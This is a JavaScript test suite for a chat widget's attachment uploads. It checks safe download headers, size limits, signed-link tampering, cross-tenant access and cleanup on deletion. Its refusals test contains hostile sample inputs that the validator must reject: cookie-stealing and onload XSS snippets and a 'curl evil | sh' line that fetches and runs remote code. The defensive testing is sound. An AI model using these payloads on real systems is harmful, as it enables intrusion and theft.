// Attachments against the real Worker with real local R2: each allowed type round-trips with safe
// headers, hostile files are refused before anything is stored, links are signed, bound to their key
// and short-lived, and deleting a conversation removes its files.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { client, signup } from '../helpers/api.mjs';
import { eventually, makeKey, newConversation, newVisitor, quietBot, SITE_ORIGIN, widgetClient } from '../helpers/chat.mjs';
import { DOCUMENTS, HOSTILE, MIME, r2BlobCount, SAMPLES, signedUrl, zipWith } from '../helpers/files.mjs';
import { startWorker } from '../helpers/worker.mjs';

let worker;
let api;
let owner;
let key;
let w;
before(async () => {
  worker = await startWorker();
  api = client(worker.url);
  owner = await signup(api, { company: 'Files Co' });
  await quietBot(api, owner);
  key = await makeKey(api, owner);
  w = widgetClient(worker.url, key.key);
});
after(() => worker?.stop());

/** Uploads raw bytes as a visitor; `declared` is the Content-Type the client claims (never trusted). */
async function upload(v, conversationId, bytes, { name = 'file', id = `up-${Math.random().toString(36).slice(2)}`, declared = 'application/octet-stream', caption, widgetKey = key.key } = {}) {
  const params = new URLSearchParams({ key: widgetKey, name, client_msg_id: id, ...(caption ? { caption } : {}) });
  const res = await fetch(`${worker.url}/api/widget/conversations/${conversationId}/attachments?${params}`, {
    method: 'POST',
    headers: { origin: SITE_ORIGIN, authorization: `Bearer ${v.token}`, 'content-type': declared },
    body: bytes,
  });
  return { status: res.status, body: await res.json().catch(() => null) };
}

describe('round trips', () => {
  test('each_allowed_type_round_trips_byte_for_byte_with_safe_headers', async () => {
    const v = await newVisitor(w);
    const conv = await newConversation(w, v);
    for (const [kind, bytes] of Object.entries({ ...SAMPLES, ...DOCUMENTS })) {
      const up = await upload(v, conv.id, bytes, { name: `sample.${kind === 'jpeg' ? 'jpg' : kind}`, declared: 'text/plain' });
      assert.equal(up.status, 201, `${kind}: ${JSON.stringify(up.body)}`);
      const data = up.body.event.data;
      assert.equal(data.kind, kind);
      assert.equal(data.size, bytes.length);
      const res = await fetch(worker.url + data.url);
      assert.equal(res.status, 200, kind);
      assert.ok(Buffer.from(await res.arrayBuffer()).equals(bytes), `${kind} bytes`);
      assert.equal(res.headers.get('content-type'), MIME[kind], 'the detected type, not the declared one');
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
      assert.match(res.headers.get('content-security-policy'), /sandbox/);
      assert.match(res.headers.get('content-disposition'), MIME[kind].startsWith('image/') ? /^inline;/ : /^attachment;/, `${kind}: only images inline`);
      assert.equal(data.image, MIME[kind].startsWith('image/'));
      const etag = res.headers.get('etag');
      assert.ok(etag);
      const again = await fetch(worker.url + data.url, { headers: { 'if-none-match': etag } });
      assert.equal(again.status, 304, `${kind} conditional GET`);
    }
  });

  test('operators_upload_too_and_a_repeated_upload_is_one_event_and_one_object', async () => {
    const v = await newVisitor(w);
    const conv = await newConversation(w, v);
    const before = r2BlobCount(worker.state);
    const first = await upload(v, conv.id, SAMPLES.png, { name: 'shot.png', id: 'same-1', caption: 'my screen' });
    const second = await upload(v, conv.id, SAMPLES.png, { name: 'shot.png', id: 'same-1', caption: 'my screen' });
    assert.equal(first.status, 201);
    assert.equal(second.status, 200);
    assert.equal(second.body.duplicate, true);
    assert.equal(second.body.event.seq, first.body.event.seq);
    assert.equal(r2BlobCount(worker.state), before + 1, 'the repeat left no object behind');
    const conflict = await upload(v, conv.id, SAMPLES.gif, { name: 'other.gif', id: 'same-1' });
    assert.equal(conflict.status, 409);
    const op = await fetch(`${worker.url}/api/admin/conversations/${conv.id}/attachments?name=reply.pdf&client_msg_id=op-1`, {
      method: 'POST',
      headers: { authorization: `Bearer ${owner.token}` },
      body: SAMPLES.pdf,
    });
    assert.equal(op.status, 201);
    const events = (await w('GET', `/conversations/${conv.id}/messages`, { token: v.token })).body.results;
    // The operator's file takes the conversation over from the bot first.
    assert.deepEqual(events.map((e) => [e.type, e.data?.name, e.type === 'assigned' ? null : e.text ?? null]), [
      ['attachment', 'shot.png', 'my screen'],
      ['assigned', undefined, null],
      ['attachment', 'reply.pdf', null],
    ]);
    assert.ok(events.filter((e) => e.type === 'attachment').every((e) => e.data.url.startsWith('/files/')), 'fresh signed links in history');
  });
});

describe('refusals', () => {
  test('svg_html_polyglots_renamed_and_executable_files_are_refused_and_nothing_is_stored', async () => {
    const v = await newVisitor(w);
    const conv = await newConversation(w, v);
    const before = r2BlobCount(worker.state);
    const cases = [
      [HOSTILE.svg, 'image.svg', 'image/svg+xml', 415],
      [HOSTILE.html, 'page.html', 'text/html', 415],
      [HOSTILE.polyglot, 'cat.gif', 'image/gif', 415],
      [SAMPLES.png, 'innocent.html', 'image/png', 422],
      [HOSTILE.exe, 'setup.exe', 'application/octet-stream', 415],
      [HOSTILE.exe, 'photo.png', 'image/png', 415],
      [Buffer.alloc(0), 'empty.png', 'image/png', 422],
      // Markup and scripts stay refused as text, whatever their name; containers cannot wear an active name.
      [Buffer.from('Hi!\n<script>alert(document.cookie)</script>'), 'notes.txt', 'text/plain', 415],
      [Buffer.from('<svg onload=alert(1)>'), 'data.csv', 'text/csv', 415],
      [Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'readme.txt', 'text/plain', 415],
      [DOCUMENTS.doc, 'setup.msi', 'application/x-msi', 415],
      [zipWith(['index.html']), 'site.html', 'application/zip', 422],
      [DOCUMENTS.docx, 'report.js', 'application/javascript', 422],
    ];
    for (const [bytes, name, declared, status] of cases) {
      const r = await upload(v, conv.id, bytes, { name, declared });
      assert.equal(r.status, status, `${name}: ${JSON.stringify(r.body)}`);
      assert.ok(r.body.error.message.length > 10, 'a clear message');
    }
    assert.equal(r2BlobCount(worker.state), before, 'no object stored');
    assert.equal((await w('GET', `/conversations/${conv.id}/messages`, { token: v.token })).body.count, 0);
  });

  test('files_over_the_limit_get_413_and_leave_no_partial_object', async () => {
    const v = await newVisitor(w);
    const conv = await newConversation(w, v);
    const before = r2BlobCount(worker.state);
    // The default limit is 20 MiB: a file of exactly 20 MiB passes, one byte more does not.
    const limit = 20 * 1024 * 1024;
    const fits = Buffer.concat([SAMPLES.pdf, Buffer.alloc(limit - SAMPLES.pdf.length)]);
    assert.equal((await upload(v, conv.id, fits, { name: 'exactly.pdf' })).status, 201);
    const tooBig = Buffer.concat([fits, Buffer.alloc(1)]);
    const r = await upload(v, conv.id, tooBig, { name: 'huge.pdf' });
    assert.equal(r.status, 413);
    assert.equal(r.body.error.code, 'file_too_large');
    // A tenant may lower the limit; the stream is cut as soon as it passes it.
    const t = await signup(api);
    assert.equal((await api('PATCH', '/api/admin/settings', { token: t.token, body: { uploads: { max_bytes: 2048, types: ['png', 'pdf'] } } })).status, 200);
    assert.equal((await api('PATCH', '/api/admin/settings', { token: t.token, body: { uploads: { max_bytes: 1 } } })).status, 422);
    const tk = await makeKey(api, t);
    const tw = widgetClient(worker.url, tk.key);
    const tv = await newVisitor(tw);
    const tc = await newConversation(tw, tv);
    const small = await upload(tv, tc.id, Buffer.concat([SAMPLES.pdf, Buffer.alloc(4096)]), { name: 'a.pdf', widgetKey: tk.key });
    assert.equal(small.status, 413);
    const gif = await upload(tv, tc.id, SAMPLES.gif, { name: 'a.gif', widgetKey: tk.key });
    assert.equal(gif.status, 415, 'GIF is not in this tenant\'s allowlist');
    assert.equal((await upload(tv, tc.id, SAMPLES.png, { name: 'ok.png', widgetKey: tk.key })).status, 201);
    assert.equal(r2BlobCount(worker.state), before + 2, 'only the accepted files are in R2');
  });
});

describe('links and access', () => {
  test('expired_tampered_swapped_and_other_tenant_links_are_refused', async () => {
    const v = await newVisitor(w);
    const conv = await newConversation(w, v);
    const a = (await upload(v, conv.id, SAMPLES.png, { name: 'a.png' })).body.event.data;
    const b = (await upload(v, conv.id, SAMPLES.gif, { name: 'b.gif' })).body.event.data;
    const url = new URL(worker.url + a.url);
    const exp = Number(url.searchParams.get('exp'));
    const sig = url.searchParams.get('sig');
    const now = Math.floor(Date.now() / 1000);
    assert.equal((await fetch(worker.url + a.url)).status, 200, 'control');
    const refused = async (path) => (await fetch(worker.url + path)).status;
    assert.equal(await refused(signedUrl(a.key, now - 10)), 403, 'expired');
    // Always a different signature (a fixed "00" ending was the original 1 time in 256).
    const tampered = `${sig.slice(0, -2)}${sig.endsWith('00') ? '11' : '00'}`;
    assert.equal(await refused(`/files/${a.key}?exp=${exp}&sig=${tampered}`), 403, 'tampered signature');
    assert.equal(await refused(`/files/${a.key}?exp=${exp + 1}&sig=${sig}`), 403, 'tampered expiry');
    assert.equal(await refused(`/files/${b.key}?exp=${exp}&sig=${sig}`), 403, "a's signature on b's key");
    assert.equal(await refused(signedUrl(a.key, exp, 'not-the-real-secret-not-the-real-secret')), 403, 'forged with another key');
    assert.equal(await refused(`/files/${a.key}`), 403, 'unsigned');
    // Another tenant's file: its key with this tenant's valid signature is refused too.
    const t = await signup(api);
    const tk = await makeKey(api, t);
    const tw = widgetClient(worker.url, tk.key);
    const tv = await newVisitor(tw);
    const tc = await newConversation(tw, tv);
    const foreign = (await upload(tv, tc.id, SAMPLES.png, { name: 'x.png', widgetKey: tk.key })).body.event.data;
    assert.equal(await refused(`/files/${foreign.key}?exp=${exp}&sig=${sig}`), 403);
  });

  test('visitor_B_cannot_upload_into_visitor_As_conversation', async () => {
    const a = await newVisitor(w);
    const b = await newVisitor(w);
    const conv = await newConversation(w, a);
    const before = r2BlobCount(worker.state);
    assert.equal((await upload(b, conv.id, SAMPLES.png, { name: 'x.png' })).status, 404);
    assert.equal(r2BlobCount(worker.state), before);
  });

  test('history_fetched_again_carries_fresh_links', async () => {
    const v = await newVisitor(w);
    const conv = await newConversation(w, v);
    await upload(v, conv.id, SAMPLES.png, { name: 'a.png' });
    const link = async () => (await w('GET', `/conversations/${conv.id}/messages`, { token: v.token })).body.results[0].data.url;
    const first = await link();
    const second = await eventually(async () => {
      const l = await link();
      return l !== first && l;
    }, 'a newer link');
    assert.ok(new URL(worker.url + second).searchParams.get('exp') > new URL(worker.url + first).searchParams.get('exp'));
    assert.equal((await fetch(worker.url + second)).status, 200);
  });

  test('deleting_a_conversation_removes_its_files_from_r2', async () => {
    const v = await newVisitor(w);
    const conv = await newConversation(w, v);
    const before = r2BlobCount(worker.state);
    const data = (await upload(v, conv.id, SAMPLES.pdf, { name: 'contract.pdf' })).body.event.data;
    await upload(v, conv.id, SAMPLES.png, { name: 'shot.png' });
    assert.equal(r2BlobCount(worker.state), before + 2);
    const agent = await (await import('../helpers/api.mjs')).addOperator(api, owner, 'agent');
    assert.equal((await api('DELETE', `/api/admin/conversations/${conv.id}`, { token: agent.token })).status, 403, 'agents may not');
    assert.equal((await api('DELETE', `/api/admin/conversations/${conv.id}`, { token: owner.token })).status, 204);
    await eventually(() => r2BlobCount(worker.state) === before, 'the objects to leave R2');
    assert.equal((await fetch(worker.url + data.url)).status, 404);
    assert.equal((await w('GET', `/conversations/${conv.id}/messages`, { token: v.token })).status, 404);
  });
});
